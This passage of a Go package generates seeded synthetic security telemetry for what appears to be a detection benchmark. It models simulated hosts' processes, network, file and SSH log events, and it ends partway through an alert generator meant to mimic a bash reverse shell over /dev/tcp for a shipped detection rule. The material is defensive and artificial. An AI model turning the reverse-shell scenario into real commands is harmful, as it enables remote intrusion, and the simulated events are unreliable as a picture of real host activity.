// Package workload makes what the detection benchmark feeds the center:
// the events of simulated hosts, with the actions and fields the sensors
// emit (docs/sensors.md: process exec and exit, connections, DNS, flows,
// file changes, authentication log lines), among them alert events that a
// shipped rule turns into new alerts, and generated Sigma rules that bring
// a rule set to a given size.
//
// Everything is drawn from a seeded generator: the same seed gives the
// same events and rules, so the agents' process and the center's measure
// of the engine alone see the same stream.
package workload

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"strconv"
	"strings"
	"time"

	"github.com/vigilsec/vigil/internal/event"
)

// The shipped rule the alert events trigger: a shell whose input and
// output are a /dev/tcp connection (reverse_shell_dev_tcp.yml).
const (
	AlertRuleID   = "4cae566c-4121-439f-bea6-b8c586baa5c4"
	AlertRuleFile = "linux/process_creation/reverse_shell_dev_tcp.yml"
)

// AgentID returns the id of simulated agent i.
func AgentID(i int) string { return fmt.Sprintf("bench-agent-%04d", i) }

// account is a user or group: id and name.
type account struct{ id, name string }

var (
	root      = account{"0", "root"}
	wwwData   = account{"33", "www-data"}
	appUser   = account{"1001", "app"}
	runner    = account{"998", "gitlab-runner"}
	resolved  = account{"991", "systemd-resolve"}
	chrony    = account{"104", "_chrony"}
	operators = []account{{"1000", "alice"}, {"1002", "bob"}, {"1003", "deploy"}, root}
)

// proc is a process the host runs: the parent of others, the actor of
// network and file events.
type proc struct {
	pid    int
	entity string
	name   string
	exe    string
	args   []string
	cwd    string
	user   account
	tty    string
	start  string
	parent *proc
	// asParent and lineage are made once: the parent and ancestry fields
	// of its children's events (read-only, shared).
	asParent map[string]any
	lineage  []any
}

func (p *proc) commandLine() string { return strings.Join(p.args, " ") }

// brief is the process as a parent or an ancestor.
func (p *proc) brief(withArgs bool) map[string]any {
	m := map[string]any{"pid": p.pid, "entity_id": p.entity, "name": p.name, "executable": p.exe}
	if withArgs {
		m["args"] = anyList(p.args)
		m["command_line"] = p.commandLine()
	}
	return m
}

// fields are the process fields of events the process acts in.
func (p *proc) fields() map[string]any {
	u := map[string]any{"id": p.user.id, "name": p.user.name}
	m := map[string]any{
		"pid": p.pid, "entity_id": p.entity, "name": p.name, "executable": p.exe,
		"args": anyList(p.args), "args_count": len(p.args), "command_line": p.commandLine(),
		"working_directory": p.cwd, "start": p.start,
		"user": u, "real_user": u, "group": u, "real_group": u,
	}
	if p.tty != "" {
		m["tty"] = map[string]any{"name": p.tty}
	}
	if p.parent != nil {
		m["parent"], m["ancestry"] = p.parent.asParentFields()
	}
	return m
}

// asParentFields returns the parent and ancestry fields of p's
// children.
func (p *proc) asParentFields() (map[string]any, []any) {
	if p.asParent == nil {
		p.asParent = p.brief(true)
		for a := p; a != nil && len(p.lineage) < 10; a = a.parent {
			p.lineage = append(p.lineage, a.brief(false))
		}
	}
	return p.asParent, p.lineage
}

func anyList(s []string) []any {
	out := make([]any, len(s))
	for i, v := range s {
		out[i] = v
	}
	return out
}

// Agent makes the events of one simulated host. It is not safe for
// concurrent use.
type Agent struct {
	// ID is the agent's id (AgentID).
	ID         string
	hostID     string
	hostName   string
	ip         string
	r          *rand.Rand
	alertEvery int
	// alertPhase spreads the agents' alert events apart.
	alertPhase uint64
	n          uint64
	pid        int
	// parents start the processes of the exec templates, by kind.
	parents map[string][]*proc
	// daemons own the network traffic.
	daemons map[string]*proc
	// recent are processes started lately: they exit, write files.
	recent []*proc
}

// NewAgent returns simulated agent index of the fleet seeded with seed.
// One event in alertEvery it makes is an alert event (never when
// alertEvery is 0), at a phase of its own so that the agents' alert
// events do not come together.
func NewAgent(seed uint64, index, alertEvery int) *Agent {
	r := rand.New(rand.NewPCG(seed, uint64(index)+1))
	a := &Agent{
		ID: AgentID(index), r: r, alertEvery: alertEvery, pid: 20000 + r.IntN(10000),
		hostName: fmt.Sprintf("%s-%02d", pick(r, []string{"web", "api", "db", "build", "k8s-node"}), index%100),
		ip:       fmt.Sprintf("10.0.%d.%d", index/250%250, index%250+2),
		parents:  map[string][]*proc{}, daemons: map[string]*proc{},
	}
	var id [16]byte
	for i := range id {
		id[i] = byte(r.Uint32())
	}
	a.hostID = hex.EncodeToString(id[:])
	if alertEvery > 0 {
		a.alertPhase = uint64(r.IntN(alertEvery))
	}
	a.boot()
	return a
}

// boot makes the long-lived processes: init, the daemons, the sessions
// of operators, cron's job shells, a CI runner and a container shim.
func (a *Agent) boot() {
	systemd := a.spawn(nil, "/usr/lib/systemd/systemd", []string{"/sbin/init"}, "/", root, "")
	systemd.pid = 1
	a.parents["systemd"] = []*proc{systemd}
	daemon := func(key, exe string, args []string, u account) *proc {
		p := a.spawn(systemd, exe, args, "/", u, "")
		a.daemons[key] = p
		return p
	}
	sshd := daemon("sshd", "/usr/sbin/sshd", []string{"sshd:", "/usr/sbin/sshd", "-D", "[listener]", "0", "of", "10-100", "startups"}, root)
	cron := daemon("cron", "/usr/sbin/cron", []string{"/usr/sbin/cron", "-f"}, root)
	nginxMaster := daemon("nginx-master", "/usr/sbin/nginx", []string{"nginx:", "master", "process", "/usr/sbin/nginx", "-g", "daemon on; master_process on;"}, root)
	a.daemons["nginx"] = a.spawn(nginxMaster, "/usr/sbin/nginx", []string{"nginx:", "worker", "process"}, "/", wwwData, "")
	daemon("java", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", []string{"/usr/bin/java", "-Xmx2g", "-jar", "/opt/app/app.jar", "--spring.profiles.active=prod"}, appUser)
	daemon("node", "/usr/bin/node", []string{"/usr/bin/node", "/srv/web/server.js"}, appUser)
	daemon("resolved", "/usr/lib/systemd/systemd-resolved", []string{"/lib/systemd/systemd-resolved"}, resolved)
	daemon("chronyd", "/usr/sbin/chronyd", []string{"/usr/sbin/chronyd", "-F", "1"}, chrony)
	daemon("dockerd", "/usr/bin/dockerd", []string{"/usr/bin/dockerd", "-H", "fd://", "--containerd=/run/containerd/containerd.sock"}, root)
	daemon("apt", "/usr/lib/apt/methods/http", []string{"/usr/lib/apt/methods/http"}, account{"42", "_apt"})

	for i, u := range operators {
		priv := a.spawn(sshd, "/usr/sbin/sshd", []string{"sshd:", u.name, "[priv]"}, "/", root, "")
		sess := a.spawn(priv, "/usr/sbin/sshd", []string{"sshd:", u.name + "@pts/" + strconv.Itoa(i)}, "/", u, "")
		home := "/home/" + u.name
		if u == root {
			home = "/root"
		}
		sh := a.spawn(sess, "/usr/bin/bash", []string{"-bash"}, home, u, "pts/"+strconv.Itoa(i))
		a.parents["shell"] = append(a.parents["shell"], sh)
	}
	for _, u := range []account{root, wwwData} {
		job := a.spawn(cron, "/usr/sbin/cron", []string{"/usr/sbin/CRON", "-f"}, "/", root, "")
		a.parents["cron"] = append(a.parents["cron"], a.spawn(job, "/usr/bin/dash", []string{"/bin/sh", "-c", "command -v debian-sa1 > /dev/null && debian-sa1 1 1"}, "/", u, ""))
	}
	gr := a.spawn(systemd, "/usr/bin/gitlab-runner", []string{"/usr/bin/gitlab-runner", "run", "--working-directory", "/home/gitlab-runner"}, "/", runner, "")
	a.parents["runner"] = []*proc{a.spawn(gr, "/usr/bin/bash", []string{"bash", "--login"}, "/builds", runner, "")}
	shim := a.spawn(systemd, "/usr/bin/containerd-shim-runc-v2", []string{"/usr/bin/containerd-shim-runc-v2", "-namespace", "k8s.io", "-id", a.hex(32), "-address", "/run/containerd/containerd.sock"}, "/run/containerd", root, "")
	a.parents["shim"] = []*proc{shim}
	a.recent = a.recent[:0]
}

// spawn makes a process of parent.
func (a *Agent) spawn(parent *proc, exe string, args []string, cwd string, u account, tty string) *proc {
	a.pid += 1 + a.r.IntN(7)
	name := exe[strings.LastIndexByte(exe, '/')+1:]
	if len(name) > 15 {
		name = name[:15] // the kernel's comm
	}
	p := &proc{pid: a.pid, entity: a.entityID(), name: name, exe: exe, args: args, cwd: cwd, user: u, tty: tty,
		start: "2026-03-02T08:00:00Z", parent: parent}
	if len(a.recent) == 64 {
		copy(a.recent, a.recent[1:])
		a.recent = a.recent[:63]
	}
	a.recent = append(a.recent, p)
	return p
}

func (a *Agent) entityID() string {
	var b [16]byte
	for i := range b {
		b[i] = byte(a.r.Uint32())
	}
	return base64.RawURLEncoding.EncodeToString(b[:])
}

func (a *Agent) hex(n int) string {
	const digits = "0123456789abcdef"
	b := make([]byte, n)
	for i := range b {
		b[i] = digits[a.r.IntN(16)]
	}
	return string(b)
}

func pick[T any](r *rand.Rand, list []T) T { return list[r.IntN(len(list))] }

// kinds are the events a host makes, with their weights per 1,000.
var kinds = []struct {
	weight int
	make   func(a *Agent, at time.Time) event.Event
}{
	{380, (*Agent).exec},
	{120, (*Agent).exit},
	{120, (*Agent).connectOut},
	{80, (*Agent).connectIn},
	{60, (*Agent).dnsQuery},
	{40, (*Agent).flow},
	{10, (*Agent).udpPeer},
	{90, (*Agent).fileChange},
	{40, (*Agent).sshSession},
	{15, (*Agent).sshLogin},
	{15, (*Agent).sudo},
	{30, (*Agent).sshProbe},
}

// Next returns the agent's next event, stamped at, and whether it is an
// alert event.
func (a *Agent) Next(at time.Time) (event.Event, bool) {
	a.n++
	if a.alertEvery > 0 && (a.n+a.alertPhase)%uint64(a.alertEvery) == 0 {
		return a.alert(at), true
	}
	x := a.r.IntN(1000)
	for _, k := range kinds {
		if x < k.weight {
			return k.make(a, at), false
		}
		x -= k.weight
	}
	return kinds[0].make(a, at), false
}

// base returns an event with the fields every event carries.
func (a *Agent) base(at time.Time, category, action, dataset string, types ...string) event.Event {
	ts := at.UTC().Format(time.RFC3339Nano)
	return event.Event{
		"@timestamp": ts,
		"event": map[string]any{
			"id": a.ID + "-" + strconv.FormatUint(a.n, 10), "kind": "event", "category": category, "action": action,
			"dataset": dataset, "type": anyList(types), "created": ts,
		},
		"agent": map[string]any{"id": a.ID, "version": "0.9.0"},
		"host":  map[string]any{"id": a.hostID, "name": a.hostName, "hostname": a.hostName},
	}
}

// Vocabulary of the exec templates.
var (
	vocab = map[string][]string{
		"dir":  {"/var/log", "/etc/nginx", "/srv/app", "/srv/web/public", "/tmp", "/var/lib/docker/volumes", "/opt/app/logs"},
		"word": {"error", "timeout", "upstream", "listen", "TODO", "deprecated", "refused", "OutOfMemory"},
		"conf": {"/etc/nginx/nginx.conf", "/etc/nginx/sites-available/app", "/etc/ssh/sshd_config", "/srv/app/config.yml", "/etc/hosts", "/etc/logrotate.d/app"},
		"log":  {"/var/log/syslog", "/var/log/nginx/access.log", "/var/log/nginx/error.log", "/opt/app/logs/app.log", "/var/log/postgresql/postgresql-15-main.log"},
		"svc":  {"nginx", "postgresql", "redis-server", "app", "docker", "node-exporter"},
		"ctr":  {"web", "api", "worker", "scheduler"},
		"ns":   {"prod", "staging", "monitoring", "ingress-nginx"},
		"file": {"release.tar.gz", "dump.sql.gz", "app.jar", "report.csv"},
		"proj": {"api", "web", "billing", "infra", "mobile-backend"},
	}
	// templates are the programs each kind of parent runs; {key} takes
	// a word of vocab, {ip} an internal address, {sha} a commit.
	templates = []struct {
		parent string
		exe    string
		args   string
		cwd    string
	}{
		{"shell", "/usr/bin/ls", "ls -la {dir}", ""},
		{"shell", "/usr/bin/ps", "ps aux --sort=-%cpu", ""},
		{"shell", "/usr/bin/grep", "grep -rn {word} {dir}", ""},
		{"shell", "/usr/bin/git", "git status", "/srv/app"},
		{"shell", "/usr/bin/git", "git pull --ff-only", "/srv/app"},
		{"shell", "/usr/bin/git", "git log --oneline -n 20", "/srv/app"},
		{"shell", "/usr/bin/vim.basic", "vim {conf}", ""},
		{"shell", "/usr/bin/less", "less {log}", ""},
		{"shell", "/usr/bin/tail", "tail -n 200 {log}", ""},
		{"shell", "/usr/bin/df", "df -h", ""},
		{"shell", "/usr/bin/du", "du -sh {dir}", ""},
		{"shell", "/usr/bin/free", "free -m", ""},
		{"shell", "/usr/bin/top", "top -b -n 1", ""},
		{"shell", "/usr/bin/systemctl", "systemctl status {svc}", ""},
		{"shell", "/usr/bin/journalctl", "journalctl -u {svc} -n 100 --no-pager", ""},
		{"shell", "/usr/bin/docker", "docker ps --format {{.Names}}", ""},
		{"shell", "/usr/bin/docker", "docker logs --tail 100 {ctr}", ""},
		{"shell", "/usr/local/bin/kubectl", "kubectl get pods -n {ns} -o wide", ""},
		{"shell", "/usr/bin/ssh", "ssh deploy@{ip}", ""},
		{"shell", "/usr/bin/scp", "scp {file} deploy@{ip}:/srv/releases/", ""},
		{"shell", "/usr/bin/curl", "curl -s http://{ip}:8080/actuator/health", ""},
		{"shell", "/usr/bin/python3.11", "python3 manage.py showmigrations", "/srv/app"},
		{"shell", "/usr/bin/tar", "tar czf /var/backups/{proj}.tar.gz {dir}", ""},
		{"shell", "/usr/bin/sudo", "sudo systemctl reload {svc}", ""},
		{"shell", "/usr/bin/cat", "cat {conf}", ""},
		{"cron", "/usr/bin/run-parts", "run-parts --report /etc/cron.hourly", "/"},
		{"cron", "/usr/bin/php8.2", "php /var/www/app/artisan schedule:run", "/var/www/app"},
		{"cron", "/usr/bin/bash", "/bin/bash /usr/local/bin/backup-db.sh", "/"},
		{"cron", "/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", "/"},
		{"cron", "/usr/bin/certbot", "certbot renew -q", "/"},
		{"cron", "/usr/lib/sysstat/sadc", "/usr/lib/sysstat/sadc -F -L -S DISK 1 1 /var/log/sysstat", "/"},
		{"systemd", "/usr/bin/systemd-tmpfiles", "systemd-tmpfiles --clean", "/"},
		{"systemd", "/usr/bin/python3.11", "/usr/bin/python3 /usr/bin/unattended-upgrade", "/"},
		{"systemd", "/usr/bin/dash", "/bin/sh /usr/lib/apt/apt.systemd.daily update", "/"},
		{"systemd", "/usr/bin/mandb", "/usr/bin/mandb --quiet", "/"},
		{"systemd", "/usr/sbin/fstrim", "/sbin/fstrim --listed-in /etc/fstab:/proc/self/mountinfo --verbose --quiet-unsupported", "/"},
		{"runner", "/usr/bin/git", "git fetch origin --prune", "/builds/{proj}"},
		{"runner", "/usr/bin/git", "git checkout -f {sha}", "/builds/{proj}"},
		{"runner", "/usr/local/go/bin/go", "go build ./...", "/builds/{proj}"},
		{"runner", "/usr/local/go/bin/go", "go test -race ./...", "/builds/{proj}"},
		{"runner", "/usr/bin/make", "make lint test", "/builds/{proj}"},
		{"runner", "/usr/bin/npm", "npm ci --no-audit", "/builds/{proj}"},
		{"runner", "/usr/bin/docker", "docker build -t registry.internal/{proj}:{sha} .", "/builds/{proj}"},
		{"shim", "/usr/sbin/runc", "runc --root /run/containerd/runc/k8s.io --log /run/containerd/io.containerd.runtime.v2.task/k8s.io/{sha}/log.json --log-format json create --bundle /run/containerd/io.containerd.runtime.v2.task/k8s.io/{sha} {sha}", "/run/containerd"},
		{"shim", "/pause", "/pause", "/"},
		{"shim", "/usr/sbin/nginx", "nginx -g daemon off;", "/"},
		{"shim", "/usr/local/bin/python3.12", "python3 -m gunicorn --workers 4 app:wsgi", "/app"},
	}
)

// fill replaces the {key}s of a template.
func (a *Agent) fill(s string) string {
	if !strings.Contains(s, "{") {
		return s
	}
	var b strings.Builder
	for {
		i := strings.Index(s, "{")
		j := strings.Index(s, "}")
		if i < 0 || j < i {
			b.WriteString(s)
			return b.String()
		}
		if strings.HasPrefix(s[i:], "{{") {
			// docker's Go templates are kept as they are.
			k := strings.Index(s, "}}")
			b.WriteString(s[:k+2])
			s = s[k+2:]
			continue
		}
		b.WriteString(s[:i])
		switch key := s[i+1 : j]; key {
		case "ip":
			fmt.Fprintf(&b, "10.0.%d.%d", a.r.IntN(4), 2+a.r.IntN(250))
		case "sha":
			b.WriteString(a.hex(12))
		default:
			b.WriteString(pick(a.r, vocab[key]))
		}
		s = s[j+1:]
	}
}

// exec is a program started by one of the host's usual parents.
func (a *Agent) exec(at time.Time) event.Event {
	t := pick(a.r, templates)
	parent := pick(a.r, a.parents[t.parent])
	args := strings.Fields(a.fill(t.args))
	cwd := a.fill(t.cwd)
	if cwd == "" {
		cwd = parent.cwd
	}
	p := a.spawn(parent, t.exe, args, cwd, parent.user, parent.tty)
	p.start = at.UTC().Format(time.RFC3339Nano)
	ev := a.base(at, "process", "exec", "exec/ebpf", "start")
	ev["process"] = p.fields()
	ev["user"] = map[string]any{"id": p.user.id, "name": p.user.name}
	ev["message"] = fmt.Sprintf("%s (pid %d) executed %s", parent.name, p.pid, p.commandLine())
	return ev
}

// exit is the end of a recent process.
func (a *Agent) exit(at time.Time) event.Event {
	if len(a.recent) == 0 {
		return a.exec(at)
	}
	i := a.r.IntN(len(a.recent))
	p := a.recent[i]
	a.recent = append(a.recent[:i], a.recent[i+1:]...)
	ev := a.base(at, "process", "exit", "exec/ebpf", "end")
	f := p.fields()
	code := 0
	if a.r.IntN(20) == 0 {
		code = 1
	}
	f["exit_code"] = code
	f["end"] = at.UTC().Format(time.RFC3339Nano)
	ev["process"] = f
	ev["event"].(map[string]any)["duration"] = int64(a.r.IntN(5000)) * int64(time.Millisecond)
	ev["user"] = map[string]any{"id": p.user.id, "name": p.user.name}
	ev["message"] = fmt.Sprintf("%s (pid %d) exited with code %d", p.name, p.pid, code)
	return ev
}

// owner is the process fields of a daemon in network events.
func owner(p *proc) map[string]any {
	return map[string]any{"pid": p.pid, "entity_id": p.entity, "name": p.name, "executable": p.exe,
		"command_line": p.commandLine(), "start": p.start}
}

func (a *Agent) network(at time.Time, action, direction, transport string, p *proc, src, dst string, sport, dport int, types ...string) event.Event {
	ev := a.base(at, "network", action, "net/ebpf", types...)
	ev["event"].(map[string]any)["outcome"] = "success"
	ev["network"] = map[string]any{"transport": transport, "type": "ipv4", "direction": direction}
	ev["source"] = map[string]any{"ip": src, "port": sport}
	ev["destination"] = map[string]any{"ip": dst, "port": dport}
	ev["process"] = owner(p)
	ev["user"] = map[string]any{"id": p.user.id, "name": p.user.name}
	return ev
}

// Internal services and public mirrors the hosts talk to.
var (
	services = []struct {
		daemon string
		port   int
	}{{"java", 5432}, {"java", 6379}, {"java", 9200}, {"node", 8080}, {"node", 443}, {"nginx", 8080}, {"nginx", 3000}, {"dockerd", 443}, {"apt", 80}}
	domains = []string{"deb.debian.org", "security.debian.org", "registry-1.docker.io", "auth.docker.io", "github.com",
		"api.internal.example", "db.internal.example", "redis.internal.example", "s3.eu-west-1.amazonaws.com", "ntp.ubuntu.com"}
)

func (a *Agent) peer() string {
	return fmt.Sprintf("10.0.%d.%d", a.r.IntN(4), 2+a.r.IntN(250))
}

func (a *Agent) connectOut(at time.Time) event.Event {
	s := pick(a.r, services)
	dst := a.peer()
	if s.daemon == "apt" || s.daemon == "dockerd" {
		dst = fmt.Sprintf("151.101.%d.%d", a.r.IntN(256), 1+a.r.IntN(254))
	}
	p := a.daemons[s.daemon]
	ev := a.network(at, "connection-attempted", "egress", "tcp", p, a.ip, dst, 32768+a.r.IntN(28000), s.port, "connection", "start")
	ev["message"] = fmt.Sprintf("%s (pid %d) connected to %s:%d over tcp", p.name, p.pid, dst, s.port)
	return ev
}

func (a *Agent) connectIn(at time.Time) event.Event {
	p, port, src := a.daemons["nginx"], 443, fmt.Sprintf("10.8.%d.%d", a.r.IntN(16), 2+a.r.IntN(250))
	if a.r.IntN(10) == 0 {
		p, port, src = a.daemons["sshd"], 22, fmt.Sprintf("10.20.%d.%d", a.r.IntN(4), 2+a.r.IntN(250))
	}
	ev := a.network(at, "connection-accepted", "ingress", "tcp", p, src, a.ip, 32768+a.r.IntN(28000), port, "connection", "start")
	ev["process"].(map[string]any)["vigil"] = map[string]any{"network": map[string]any{"owner_source": "listener"}}
	ev["message"] = fmt.Sprintf("%s (pid %d) accepted a connection from %s on port %d", p.name, p.pid, src, port)
	return ev
}

func (a *Agent) dnsQuery(at time.Time) event.Event {
	p := a.daemons[pick(a.r, []string{"java", "node", "apt", "dockerd", "chronyd"})]
	name := pick(a.r, domains)
	ev := a.network(at, "dns-query", "egress", "udp", p, "127.0.0.1", "127.0.0.53", 32768+a.r.IntN(28000), 53, "protocol", "connection")
	ev["dns"] = map[string]any{"type": "query", "id": strconv.Itoa(a.r.IntN(65536)),
		"question": map[string]any{"name": name, "type": pick(a.r, []string{"A", "AAAA"}), "class": "IN"}}
	ev["message"] = fmt.Sprintf("%s (pid %d) asked for %s", p.name, p.pid, name)
	return ev
}

func (a *Agent) flow(at time.Time) event.Event {
	s := pick(a.r, services)
	p := a.daemons[s.daemon]
	dst := a.peer()
	ev := a.network(at, "flow", "egress", "tcp", p, a.ip, dst, 0, s.port, "connection", "info")
	e := ev["event"].(map[string]any)
	e["kind"] = "metric"
	e["start"] = at.Add(-time.Minute).UTC().Format(time.RFC3339Nano)
	e["end"] = at.UTC().Format(time.RFC3339Nano)
	sent, recv := 200+a.r.IntN(200000), 500+a.r.IntN(2000000)
	ev["source"].(map[string]any)["bytes"] = sent
	ev["destination"].(map[string]any)["bytes"] = recv
	ev["network"].(map[string]any)["bytes"] = sent + recv
	ev["vigil"] = map[string]any{"flow": map[string]any{"connections": 1 + a.r.IntN(40)}}
	ev["message"] = fmt.Sprintf("%s (pid %d) to %s:%d: %d bytes out, %d in", p.name, p.pid, dst, s.port, sent, recv)
	return ev
}

func (a *Agent) udpPeer(at time.Time) event.Event {
	p := a.daemons["chronyd"]
	dst := fmt.Sprintf("10.0.0.%d", 2+a.r.IntN(3))
	ev := a.network(at, "udp-peer", "egress", "udp", p, a.ip, dst, 123, 123, "connection", "start")
	ev["message"] = fmt.Sprintf("%s (pid %d) sent udp to %s:123", p.name, p.pid, dst)
	return ev
}

// fileChanges are the changes of watched files a host sees day to day:
// package upgrades, configuration edits, deployments, known hosts.
var fileChanges = []struct {
	action, path, exe, args string
	owner                   account
}{
	{"file-modified", "/etc/nginx/sites-available/app", "/usr/bin/vim.basic", "vim /etc/nginx/sites-available/app", root},
	{"file-modified", "/etc/logrotate.d/app", "/usr/bin/vim.basic", "vim /etc/logrotate.d/app", root},
	{"file-modified", "/etc/ssl/certs/ca-certificates.crt", "/usr/sbin/update-ca-certificates", "/bin/sh /usr/sbin/update-ca-certificates --fresh", root},
	{"file-modified", "/home/alice/.ssh/known_hosts", "/usr/bin/ssh", "ssh deploy@10.0.1.20", account{"1000", "alice"}},
	{"file-renamed", "/usr/bin/curl", "/usr/bin/dpkg", "/usr/bin/dpkg --status-fd 30 --configure --pending", root},
	{"file-renamed", "/usr/sbin/nginx", "/usr/bin/dpkg", "/usr/bin/dpkg --status-fd 30 --unpack --auto-deconfigure /var/cache/apt/archives/nginx_1.22.1-9+deb12u2_amd64.deb", root},
	{"file-created", "/etc/nginx/sites-enabled/app", "/usr/bin/ln", "ln -s /etc/nginx/sites-available/app /etc/nginx/sites-enabled/app", root},
	{"file-created", "/usr/share/man/man1/curl.1.gz", "/usr/bin/dpkg", "/usr/bin/dpkg --status-fd 30 --unpack /var/cache/apt/archives/curl_7.88.1-10+deb12u8_amd64.deb", root},
	{"file-deleted", "/etc/nginx/sites-enabled/default", "/usr/bin/rm", "rm /etc/nginx/sites-enabled/default", root},
	{"file-deleted", "/etc/apt/apt.conf.d/50unattended-upgrades.ucf-old", "/usr/bin/ucf", "/usr/bin/ucf --purge /etc/apt/apt.conf.d/50unattended-upgrades", root},
	{"file-attributes-changed", "/etc/ssh/sshd_config", "/usr/bin/chmod", "chmod 600 /etc/ssh/sshd_config", root},
	{"file-modified", "/etc/hosts", "/usr/bin/vim.basic", "vim /etc/hosts", root},
}

func (a *Agent) fileChange(at time.Time) event.Event {
	c := pick(a.r, fileChanges)
	parent := a.parents["shell"][3] // root's shell
	p := a.spawn(parent, c.exe, strings.Fields(c.args), "/root", c.owner, parent.tty)
	p.start = at.Add(-time.Second).UTC().Format(time.RFC3339Nano)
	types := map[string]string{"file-modified": "change", "file-renamed": "change", "file-created": "creation",
		"file-deleted": "deletion", "file-attributes-changed": "change"}
	ev := a.base(at, "file", c.action, "fim", types[c.action])
	ev["event"].(map[string]any)["outcome"] = "success"
	dir, name := c.path[:strings.LastIndexByte(c.path, '/')], c.path[strings.LastIndexByte(c.path, '/')+1:]
	mtime := at.Add(-time.Duration(a.r.IntN(2000)) * time.Millisecond).UTC().Format(time.RFC3339Nano)
	f := map[string]any{"path": c.path, "name": name, "directory": dir, "type": "file", "mode": "0644",
		"uid": "0", "gid": "0", "owner": "root", "group": "root", "size": 200 + a.r.IntN(400000),
		"mtime": mtime, "ctime": mtime, "inode": strconv.Itoa(1000000 + a.r.IntN(9000000)),
		"hash": map[string]any{"sha256": a.hex(64)}}
	ev["file"] = f
	changes := []any{"content", "mtime"}
	if c.action == "file-attributes-changed" {
		changes = []any{"mode"}
		f["mode"] = "0600"
	}
	ev["vigil"] = map[string]any{
		"fim":  map[string]any{"mechanism": "fanotify", "marks": "inode", "changes": changes},
		"file": map[string]any{"previous": map[string]any{"mode": "0644", "uid": "0", "gid": "0", "size": 200 + a.r.IntN(400000), "hash": map[string]any{"sha256": a.hex(64)}}},
	}
	if c.action == "file-renamed" {
		ev["vigil"].(map[string]any)["fim"].(map[string]any)["replaced"] = true
		ev["vigil"].(map[string]any)["file"].(map[string]any)["previous"].(map[string]any)["path"] = c.path + ".dpkg-new"
	}
	ev["process"] = p.fields()
	ev["user"] = map[string]any{"id": p.user.id, "name": p.user.name}
	ev["message"] = fmt.Sprintf("%s (pid %d) %s %s", p.name, p.pid, strings.TrimPrefix(c.action, "file-"), c.path)
	return ev
}

// authlog returns an event of the authlog sensor from service's daemon.
func (a *Agent) authlog(at time.Time, category, action, service, message string, types ...string) event.Event {
	ev := a.base(at, category, action, "authlog", types...)
	ev["event"].(map[string]any)["provider"] = "syslog"
	d := a.daemons["sshd"]
	ev["process"] = map[string]any{"pid": d.pid + 1 + a.r.IntN(5000), "name": service}
	ev["vigil"] = map[string]any{"auth": map[string]any{"service": service}}
	ev["message"] = message
	return ev
}

func (a *Agent) sshSession(at time.Time) event.Event {
	u := pick(a.r, operators)
	action, kind := "session-opened", "start"
	msg := fmt.Sprintf("pam_unix(sshd:session): session opened for user %s(uid=%s) by (uid=0)", u.name, u.id)
	if a.r.IntN(2) == 0 {
		action, kind = "session-closed", "end"
		msg = fmt.Sprintf("pam_unix(sshd:session): session closed for user %s", u.name)
	}
	ev := a.authlog(at, "session", action, "sshd", msg, kind)
	ev["user"] = map[string]any{"name": u.name}
	ev["vigil"].(map[string]any)["auth"].(map[string]any)["session_id"] = strconv.Itoa(1000 + a.r.IntN(9000))
	return ev
}

func (a *Agent) sshLogin(at time.Time) event.Event {
	u := pick(a.r, operators[:3])
	src, port := fmt.Sprintf("10.20.%d.%d", a.r.IntN(4), 2+a.r.IntN(250)), 40000+a.r.IntN(25000)
	fp := "SHA256:" + a.entityID() + a.entityID()[:21]
	ev := a.authlog(at, "authentication", "logged-in", "sshd",
		fmt.Sprintf("Accepted publickey for %s from %s port %d ssh2: ED25519 %s", u.name, src, port, fp), "start")
	ev["event"].(map[string]any)["outcome"] = "success"
	ev["user"] = map[string]any{"name": u.name}
	ev["source"] = map[string]any{"ip": src, "port": port}
	ev["vigil"].(map[string]any)["auth"].(map[string]any)["method"] = "publickey"
	ev["vigil"].(map[string]any)["auth"].(map[string]any)["key"] = map[string]any{"type": "ED25519", "fingerprint": fp}
	return ev
}

func (a *Agent) sudo(at time.Time) event.Event {
	u := pick(a.r, operators[:3])
	cmd := a.fill("/usr/bin/systemctl restart {svc}")
	if a.r.IntN(2) == 0 {
		cmd = a.fill("/usr/bin/tail -n 100 {log}")
	}
	ev := a.authlog(at, "iam", "sudo", "sudo",
		fmt.Sprintf("%s : TTY=pts/0 ; PWD=/home/%s ; USER=root ; COMMAND=%s", u.name, u.name, cmd), "admin")
	ev["event"].(map[string]any)["outcome"] = "success"
	ev["user"] = map[string]any{"name": u.name, "target": map[string]any{"name": "root"}}
	p := ev["process"].(map[string]any)
	p["command_line"] = cmd
	p["working_directory"] = "/home/" + u.name
	p["tty"] = map[string]any{"name": "pts/0"}
	return ev
}

// sshProbe is the background noise of an internet-facing sshd: invalid
// users tried, a failed password, a client gone before authenticating.
// The sources are spread over 198.18.0.0/15 so that no address reaches
// the brute force rules' thresholds.
func (a *Agent) sshProbe(at time.Time) event.Event {
	src, port := fmt.Sprintf("198.%d.%d.%d", 18+a.r.IntN(2), a.r.IntN(256), 1+a.r.IntN(254)), 1024+a.r.IntN(64000)
	user := pick(a.r, []string{"admin", "test", "oracle", "ubuntu", "user", "git", "postgres", "ftpuser", "pi"})
	var ev event.Event
	switch a.r.IntN(3) {
	case 0:
		ev = a.authlog(at, "authentication", "invalid-user", "sshd", fmt.Sprintf("Invalid user %s from %s port %d", user, src, port), "start")
	case 1:
		ev = a.authlog(at, "authentication", "login-failed", "sshd",
			fmt.Sprintf("Failed password for invalid user %s from %s port %d ssh2", user, src, port), "start")
		au := ev["vigil"].(map[string]any)["auth"].(map[string]any)
		au["method"] = "password"
		au["invalid_user"] = true
	default:
		ev = a.authlog(at, "authentication", "preauth-disconnected", "sshd",
			fmt.Sprintf("Disconnected from invalid user %s %s port %d [preauth]", user, src, port), "end")
		ev["event"].(map[string]any)["reason"] = "disconnected before authentication"
	}
	if ev.String("event.action") != "preauth-disconnected" {
		ev["event"].(map[string]any)["outcome"] = "failure"
	}
	ev["user"] = map[string]any{"name": user}
	ev["source"] = map[string]any{"ip": src, "port": port}
	return ev
}

// alert is a reverse shell: an application server's process runs bash
// with its input and output on a /dev/tcp connection. Its parent is a
// release of its own (the agent's event number names it), so that each
// alert event is a new alert: alerts merge by rule, agent, program and
// parent program.
func (a *Agent) alert(at time.Time) event.Event {
	release := "/opt/app/releases/r" + strconv.FormatUint(a.n, 10)
	server := &proc{pid: a.pid + 1, entity: a.entityID(), name: "app-server", exe: release + "/bin/app-server",
		args: []string{release + "/bin/app-server", "--config", "/etc/app/server.toml"}, cwd: release, user: appUser,
		start: "2026-03-02T08:00:00Z", parent: a.parents["systemd"][0]}
